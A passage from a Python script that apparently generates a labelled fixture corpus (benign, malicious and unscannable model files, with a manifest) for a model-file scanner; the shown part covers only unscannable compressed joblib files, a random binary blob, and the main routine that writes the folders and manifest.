        record(UNSCANNABLE, f'logreg.joblib{ext}', saved_path(lambda p: joblib.dump(model, p, compress=(comp, 3)), ext), 'unscannable',
               f'joblib compressed with {comp}: no decoder without extra dependencies', None, [], 'joblib')
    record(UNSCANNABLE, 'blob.bin', bytes(range(256)) * 4, 'unscannable', 'unknown binary format', None, [], None)


def main():
    if os.path.isdir(ROOT):
        for d in (BENIGN, MALICIOUS, UNSCANNABLE):
            shutil.rmtree(d, ignore_errors=True)
    for d in (BENIGN, MALICIOUS, UNSCANNABLE):
        os.makedirs(d)
    make_benign()
    make_malicious()
    make_unscannable()
    with open(os.path.join(ROOT, 'manifest.json'), 'w') as f:
        json.dump({'files': MANIFEST}, f, indent=2)
        f.write('\n')
    total = sum(os.path.getsize(os.path.join(ROOT, e['file'])) for e in MANIFEST)
    print(f'{len(MANIFEST)} files, {total} bytes')


if __name__ == '__main__':
    main()
